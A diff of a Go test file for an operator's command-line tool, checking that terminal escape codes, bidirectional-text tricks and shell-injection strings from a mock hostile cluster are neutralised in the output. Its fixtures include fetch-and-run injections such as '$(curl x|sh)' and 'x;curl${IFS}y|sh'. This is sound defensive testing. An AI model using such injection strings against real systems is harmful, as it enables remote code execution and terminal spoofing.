@@ -45,12 +45,12 @@ import (
 	"github.com/traas-stack/altershield-operator/internal/workload"
 )
 
-// hostile is what somebody may write wherever text is stored: it clears the screen, sets
-// the title, colours, goes back in the line, begins lines of its own, and turns the
-// direction of writing around. The last part is for a shell.
-const hostile = "find\x1b[2J\x1b]0;title\a\x1b[31m\r\n✔ forged\u0085✔ forged\u2028✔ forged\u009b31m\b\x00\x7f\t\u202eevil\u2066\u200f'; $(curl x|sh) `id`"
+// hostile is a text of an attacker: it clears the screen, sets the title, colours, goes back in the line, begins new lines, and
+// reverses the direction of writing. The last part is for a shell.
+const hostile = "find\x1b[2J\x1b]0;title\a\x1b[31m\r\n✔ forged\u0085✔ forged\u2028✔ forged\u009b31m\b\x00\x7f\t" +
+	"\u202eevil\u2066\u200f'; $(curl x|sh) `id`"
 
-// hostileObjects are a workload that failed, and all that belongs to it.
+// hostileObjects returns a workload that failed, and all that belongs to it.
 func hostileObjects() map[string]client.Object {
 	s := newSnapshot(blockedBySecond)
 	c := s.changes[0].DeepCopy()
@@ -67,7 +67,7 @@ func hostileObjects() map[string]client.Object {
 		metav1.Condition{Type: hostile, Status: metav1.ConditionTrue, Reason: hostile, Message: hostile},
 		metav1.Condition{
 			Type: v1alpha1.ConditionEvictionBlocked, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonNotEvicted,
-			Message: "If the application bears it, delete the pod yourself: kubectl delete pod x;curl${IFS}y|sh -n shop",
+			Message: "If the application tolerates it, delete the pod yourself: kubectl delete pod x;curl${IFS}y|sh -n shop",
 		})
 	d := &appsv1.Deployment{TypeMeta: metav1.TypeMeta{APIVersion: "apps/v1", Kind: "Deployment"}}
 	d.Namespace, d.Name, d.UID, d.Labels, d.Annotations = "shop", "sleep", s.workload.UID, s.workload.Labels, s.workload.Annotations
@@ -79,9 +79,12 @@ func hostileObjects() map[string]client.Object {
 	d.Spec.Template.Spec.Containers = []corev1.Container{{Name: hostile, Image: hostile}}
 	policy := &v1alpha1.DefensePolicy{TypeMeta: metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion.String(), Kind: "DefensePolicy"}}
 	policy.Namespace, policy.Name = "shop", "x;curl"
-	policy.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionAccepted, Status: metav1.ConditionFalse, Reason: hostile, Message: hostile}}
+	policy.Status.Conditions = []metav1.Condition{
+		{Type: v1alpha1.ConditionAccepted, Status: metav1.ConditionFalse, Reason: hostile, Message: hostile},
+	}
 	blocking := &v1alpha1.OpsConfigInfo{TypeMeta: metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion.String(), Kind: "OpsConfigInfo"}}
-	blocking.Namespace, blocking.Name, blocking.Spec.Type, blocking.Spec.Enable = operatorNamespace, settings.NameBlocking, v1alpha1.TypeBlocking, true
+	blocking.Namespace, blocking.Name = operatorNamespace, settings.NameBlocking
+	blocking.Spec.Type, blocking.Spec.Enable = v1alpha1.TypeBlocking, true
 	ns := &corev1.Namespace{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Namespace"}}
 	ns.Name, ns.Labels = "shop", map[string]string{v1alpha1.EnrolledLabel: v1alpha1.EnrolledValue}
 	return map[string]client.Object{
@@ -89,8 +92,7 @@ func hostileObjects() map[string]client.Object {
 	}
 }
 
-// hostileCluster is an API server that says such things, in objects, warnings and errors:
-// fail is the status code of requests of this resource.
+// hostileCluster returns an API server with hostile objects, warnings and errors; fail has the status codes of resources.
 func hostileCluster(objects map[string]client.Object, fail map[string]int) http.HandlerFunc {
 	return func(w http.ResponseWriter, r *http.Request) {
 		path := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
@@ -128,7 +130,8 @@ func hostileCluster(objects map[string]client.Object, fail map[string]int) http.
 		case name != "":
 			w.WriteHeader(http.StatusNotFound)
 			_ = json.NewEncoder(w).Encode(metav1.Status{
-				TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure, Reason: metav1.StatusReasonNotFound, Code: http.StatusNotFound,
+				TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure,
+				Reason: metav1.StatusReasonNotFound, Code: http.StatusNotFound,
 			})
 		default:
 			items := []client.Object{}
@@ -160,7 +163,7 @@ func runAt(t *testing.T, server http.HandlerFunc, args ...string) (code int, out
 	return code, o.String(), e.String()
 }
 
-// withDiscovery answers what is served, and leaves the rest to a server.
+// withDiscovery answers requests for discovery, and passes other requests to a server.
 func withDiscovery(server http.HandlerFunc) http.HandlerFunc {
 	groups := map[string][]metav1.APIResource{}
 	for resource, list := range listKinds {
@@ -171,7 +174,9 @@ func withDiscovery(server http.HandlerFunc) http.HandlerFunc {
 		case "changeworkloads", "changepods", "defensepolicies", "opsconfiginfoes":
 			group = v1alpha1.GroupVersion.String()
 		}
-		groups[group] = append(groups[group], metav1.APIResource{Name: resource, Kind: strings.TrimSuffix(list, "List"), Namespaced: resource != "namespaces"})
+		groups[group] = append(groups[group], metav1.APIResource{
+			Name: resource, Kind: strings.TrimSuffix(list, "List"), Namespaced: resource != "namespaces",
+		})
 	}
 	answers := map[string]any{
 		"/version": version.Info{GitVersion: "v1.30.0"}, "/api": metav1.APIVersions{Versions: []string{"v1"}},
@@ -203,7 +208,7 @@ func withDiscovery(server http.HandlerFunc) http.HandlerFunc {
 	}
 }
 
-// A terminal gets text alone, whatever the cluster says.
+// TestHostileCluster: a terminal gets plain text, whatever the cluster answers.
 func TestHostileCluster(t *testing.T) {
 	forbidden := func(resources ...string) map[string]int {
 		fail := map[string]int{}
@@ -215,25 +220,33 @@ func TestHostileCluster(t *testing.T) {
 	for name, tt := range map[string]struct {
 		args []string
 		fail map[string]int
-		// says is what it prints all the same, code how it ends.
+		// says is a part of the output, and code the exit code.
 		says string
 		code int
 	}{
-		"status":                {args: []string{"status", "deployment/sleep"}, says: "find[2J]0;title[31m"},
-		"status, wide":          {args: []string{"status", "sleep", "-o", "wide"}, says: "find[2J]0;title[31m"},
-		"status in JSON":        {args: []string{"status", "sleep", "-o", "json"}, says: `find\u001b[2J`},
-		"status in YAML":        {args: []string{"status", "sleep", "-o", "yaml"}, says: `find\e[2J`},
-		"status of many":        {args: []string{"status", "--all"}, says: "find[2J]0;title[31m"},
-		"without a command":     {says: "find[2J]0;title[31m"},
-		"history":               {args: []string{"history", "sleep"}, says: "find[2J]0;title[31m"},
-		"wait":                  {args: []string{"wait", "sleep", "--release=2", "--timeout=5s"}, says: "find[2J]0;title[31m", code: 2},
-		"override":              {args: []string{"override", "sleep", "--next", "--dry-run"}, says: "find[2J]0;title[31m"},
-		"verdict":               {args: []string{"verdict", "pass", "sleep", "--dry-run"}, says: "find[2J]0;title[31m"},
-		"check":                 {args: []string{"check"}, says: "find[2J]0;title[31m", code: 1},
-		"version":               {args: []string{"version"}, says: "client", code: 0},
-		"a read that is denied": {args: []string{"status", "sleep"}, fail: forbidden("pods", "controllerrevisions"), says: "find[2J]0;title[31m"},
-		"a read that fails":     {args: []string{"status", "sleep"}, fail: map[string]int{"deployments": http.StatusBadGateway}, says: "error: get deployment/sleep", code: 1},
-		"nothing may be read":   {args: []string{"status", "sleep"}, fail: forbidden("deployments", "statefulsets", "daemonsets"), says: "error: get deployment/sleep", code: 1},
+		"status":            {args: []string{"status", "deployment/sleep"}, says: "find[2J]0;title[31m"},
+		"status, wide":      {args: []string{"status", "sleep", "-o", "wide"}, says: "find[2J]0;title[31m"},
+		"status in JSON":    {args: []string{"status", "sleep", "-o", "json"}, says: `find\u001b[2J`},
+		"status in YAML":    {args: []string{"status", "sleep", "-o", "yaml"}, says: `find\e[2J`},
+		"status of many":    {args: []string{"status", "--all"}, says: "find[2J]0;title[31m"},
+		"without a command": {says: "find[2J]0;title[31m"},
+		"history":           {args: []string{"history", "sleep"}, says: "find[2J]0;title[31m"},
+		"wait":              {args: []string{"wait", "sleep", "--release=2", "--timeout=5s"}, says: "find[2J]0;title[31m", code: 2},
+		"override":          {args: []string{"override", "sleep", "--next", "--dry-run"}, says: "find[2J]0;title[31m"},
+		"verdict":           {args: []string{"verdict", "pass", "sleep", "--dry-run"}, says: "find[2J]0;title[31m"},
+		"check":             {args: []string{"check"}, says: "find[2J]0;title[31m", code: 1},
+		"version":           {args: []string{"version"}, says: "client", code: 0},
+		"a read that is denied": {
+			args: []string{"status", "sleep"}, fail: forbidden("pods", "controllerrevisions"), says: "find[2J]0;title[31m",
+		},
+		"a read that fails": {
+			args: []string{"status", "sleep"}, fail: map[string]int{"deployments": http.StatusBadGateway},
+			says: "error: get deployment/sleep", code: 1,
+		},
+		"nothing may be read": {
+			args: []string{"status", "sleep"}, fail: forbidden("deployments", "statefulsets", "daemonsets"),
+			says: "error: get deployment/sleep", code: 1,
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			code, out, errs := runAt(t, hostileCluster(hostileObjects(), tt.fail), tt.args...)
@@ -241,7 +254,7 @@ func TestHostileCluster(t *testing.T) {
 				t.Errorf("exit code %d, not %d, or it does not say %q:\n%s%s", code, tt.code, tt.says, out, errs)
 			}
 			if name != "check" && !strings.Contains(errs, "it warns") {
-				t.Errorf("what the API server warns of is not told:\n%s", errs)
+				t.Errorf("the warning of the API server is not printed:\n%s", errs)
 			}
 			for _, text := range []string{out, errs} {
 				for at, r := range text {
@@ -253,8 +266,9 @@ func TestHostileCluster(t *testing.T) {
 					if strings.HasPrefix(line, "✔ forged") {
 						t.Errorf("a line of the cluster's own: %q", line)
 					}
-					// Of a command that is advised a shell makes no other one.
-					if command := strings.TrimSpace(line); strings.HasPrefix(command, "kubectl ") && strings.ContainsAny(unquoted(command), ";$`|&<>()\n") {
+					// A shell reads an advised command as one command.
+					command := strings.TrimSpace(line)
+					if strings.HasPrefix(command, "kubectl ") && strings.ContainsAny(unquoted(command), ";$`|&<>()\n") {
 						t.Errorf("a shell makes more than one command of %s", command)
 					}
 				}
@@ -263,7 +277,7 @@ func TestHostileCluster(t *testing.T) {
 	}
 }
 
-// unquoted is what of a command is in no single quotes.
+// unquoted returns the parts of a command outside of single quotes.
 func unquoted(command string) (text string) {
 	for i, part := range strings.Split(strings.ReplaceAll(command, `'\''`, ""), "'") {
 		if i%2 == 0 {
@@ -273,7 +287,7 @@ func unquoted(command string) (text string) {
 	return text
 }
 
-// A namespace that is not there is no healthy one.
+// TestNoNamespace: a missing namespace is an error.
 func TestNoNamespace(t *testing.T) {
 	for _, args := range [][]string{{"status"}, {}} {
 		objects := hostileObjects()
@@ -285,25 +299,27 @@ func TestNoNamespace(t *testing.T) {
 	}
 }
 
-// Without the operator an error names what the user does.
+// TestNoOperator: without the operator's kinds an error says so, in the words of the user.
 func TestNoOperator(t *testing.T) {
 	d, ns := hostileObjects()["deployments"], hostileObjects()["namespaces"]
 	api := fake.NewClientBuilder().WithScheme(Scheme()).WithObjects(d, ns).WithInterceptorFuncs(interceptor.Funcs{
 		List: func(ctx context.Context, c client.WithWatch, list client.ObjectList, opts ...client.ListOption) error {
 			if _, is := list.(*v1alpha1.ChangeWorkloadList); is {
-				return &meta.NoKindMatchError{GroupKind: v1alpha1.GroupVersion.WithKind("ChangeWorkload").GroupKind(), SearchedVersions: []string{"v1alpha1"}}
+				kind := v1alpha1.GroupVersion.WithKind("ChangeWorkload").GroupKind()
+				return &meta.NoKindMatchError{GroupKind: kind, SearchedVersions: []string{"v1alpha1"}}
 			}
 			return c.List(ctx, list, opts...)
 		},
 	}).Build()
 	c := &connection{Options: Options{Now: func() time.Time { return testNow }}}
-	_, err := c.look(t.Context(), api, operatorNamespace, target{kind: workload.Deployment{}, key: client.ObjectKeyFromObject(d)})
-	if err == nil || !strings.Contains(Explained(err).Error(), "the operator's kinds are not installed") || strings.Contains(err.Error(), string(d.GetUID())) {
+	_, err := c.load(t.Context(), api, operatorNamespace, target{kind: workload.Deployment{}, key: client.ObjectKeyFromObject(d)})
+	if err == nil || !strings.Contains(Explained(err).Error(), "the operator's kinds are not installed") ||
+		strings.Contains(err.Error(), string(d.GetUID())) {
 		t.Error(err)
 	}
 }
 
-// Text is printed by printf, which cleans it.
+// TestNothingElsePrints: only printf prints text, which it cleans.
 func TestNothingElsePrints(t *testing.T) {
 	files, err := filepath.Glob("*.go")
 	if err != nil || len(files) == 0 {
